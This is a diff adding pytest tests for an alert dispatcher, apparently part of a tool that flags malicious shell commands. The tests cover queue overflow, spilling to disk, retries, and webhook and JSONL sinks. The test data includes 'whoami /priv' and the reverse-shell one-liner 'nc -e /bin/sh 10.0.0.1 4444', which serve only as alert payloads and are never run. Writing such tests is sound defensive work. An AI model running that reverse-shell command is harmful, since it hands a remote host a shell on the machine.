@@ -0,0 +1,144 @@
+import json
+import threading
+import time
+from http.server import BaseHTTPRequestHandler, HTTPServer
+
+import pytest
+
+from dispatch import (Alert, AlertDispatcher, AlertSink, ConsoleSink, JsonlSink, SinkWorker,
+                      WebhookSink)
+
+RESULT = {"verdict": "malicious", "reason": "Matched rule"}
+
+
+class RecordingSink(AlertSink):
+    kind = "recording"
+
+    def __init__(self, failures=0, gate=None):
+        self.failures = failures
+        self.gate = gate
+        self.commands = []
+
+    def deliver(self, alerts):
+        if self.gate is not None:
+            self.gate.wait(5)
+        if self.failures:
+            self.failures -= 1
+            raise OSError("receiver down")
+        self.commands.extend(alert.cmd for alert in alerts)
+
+
+def test_drop_oldest_keeps_newest_alerts():
+    gate = threading.Event()
+    sink = RecordingSink(gate=gate)
+    worker = SinkWorker(sink, queue_size=3, overflow="drop_oldest", batch_size=1, batch_delay=0)
+    dispatcher = AlertDispatcher([worker])
+
+    dispatcher.submit("cmd-0", RESULT)
+    # Wait until cmd-0 is held by the stalled sink, then overfill the queue
+    deadline = time.monotonic() + 5
+    while not worker.metrics()["in_flight"]:
+        assert time.monotonic() < deadline, "sink never picked up the first alert"
+        time.sleep(0.001)
+    for i in range(1, 7):
+        dispatcher.submit(f"cmd-{i}", RESULT)
+    gate.set()
+    assert dispatcher.flush(5)
+
+    assert sink.commands == ["cmd-0", "cmd-4", "cmd-5", "cmd-6"]
+    metrics = dispatcher.metrics()["recording"]
+    assert metrics["dropped"] == 3 and metrics["delivered"] == 4 and metrics["queued"] == 0
+    dispatcher.close()
+
+
+def test_spill_to_disk_preserves_order(tmp_path):
+    gate = threading.Event()
+    sink = RecordingSink(gate=gate)
+    worker = SinkWorker(sink, queue_size=2, overflow="spill", batch_size=2, batch_delay=0,
+                        spill_dir=str(tmp_path))
+    for i in range(10):
+        assert worker.offer(Alert(f"cmd-{i}", RESULT))
+    assert worker.metrics()["spilled"] > 0
+    gate.set()
+    assert worker.flush(5)
+
+    assert sink.commands == [f"cmd-{i}" for i in range(10)]
+    assert worker.metrics()["dropped"] == 0
+    worker.close()
+    assert (tmp_path / "recording.jsonl").read_text() == ""
+
+
+def test_failed_batches_are_retried(tmp_path):
+    sink = RecordingSink(failures=2)
+    worker = SinkWorker(sink, batch_delay=0, backoff=0.01)
+    AlertDispatcher([worker]).submit("whoami /priv", RESULT)
+    assert worker.flush(5)
+
+    assert sink.commands == ["whoami /priv"]
+    metrics = worker.metrics()
+    assert metrics["retries"] == 2 and metrics["failed"] == 0
+    assert "receiver down" in metrics["last_error"]
+    worker.close()
+
+
+def test_webhook_and_jsonl_sinks(tmp_path):
+    received = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_POST(self):
+            body = self.rfile.read(int(self.headers["Content-Length"]))
+            received.extend(json.loads(body)["alerts"])
+            self.send_response(204)
+            self.end_headers()
+
+        def log_message(self, *args):
+            pass
+
+    server = HTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        dispatcher = AlertDispatcher()
+        dispatcher.add_sink(WebhookSink(f"http://127.0.0.1:{server.server_port}/alerts"), batch_delay=0)
+        dispatcher.add_sink(JsonlSink(str(tmp_path / "alerts.jsonl")), batch_delay=0)
+        dispatcher.submit("nc -e /bin/sh 10.0.0.1 4444", RESULT)
+        dispatcher.submit("skipped by the webhook", RESULT, skip=("webhook",))
+        assert dispatcher.flush(5)
+        dispatcher.close()
+    finally:
+        server.shutdown()
+
+    assert [alert["command"] for alert in received] == ["nc -e /bin/sh 10.0.0.1 4444"]
+    assert received[0]["verdict"] == "malicious"
+    lines = (tmp_path / "alerts.jsonl").read_text().splitlines()
+    assert [json.loads(line)["command"] for line in lines] == [
+        "nc -e /bin/sh 10.0.0.1 4444", "skipped by the webhook"]
+
+
+def test_duplicate_sink_names_are_rejected_and_flush_can_be_scoped(tmp_path):
+    with pytest.raises(ValueError):
+        AlertDispatcher.from_specs([{"type": "jsonl", "path": str(tmp_path / "a.jsonl")},
+                                    {"type": "jsonl", "path": str(tmp_path / "b.jsonl")}])
+
+    gate = threading.Event()
+    dispatcher = AlertDispatcher()
+    dispatcher.add_sink(RecordingSink(gate=gate), batch_delay=0)
+    dispatcher.add_sink(ConsoleSink(), batch_delay=0)
+    with pytest.raises(ValueError):
+        dispatcher.add_sink(RecordingSink())
+    dispatcher.add_sink(RecordingSink(), name="recording-2", batch_delay=0)
+
+    dispatcher.submit("whoami /priv", RESULT)
+    # A stalled sink does not hold up a flush of the console alone
+    assert dispatcher.flush(5, sinks=("console",))
+    assert not dispatcher.flush(0.05)
+    gate.set()
+    assert dispatcher.flush(5)
+    dispatcher.close()
+
+
+def test_sink_without_deliver_fails_on_creation():
+    class Incomplete(AlertSink):
+        kind = "incomplete"
+
+    with pytest.raises(TypeError):
+        Incomplete()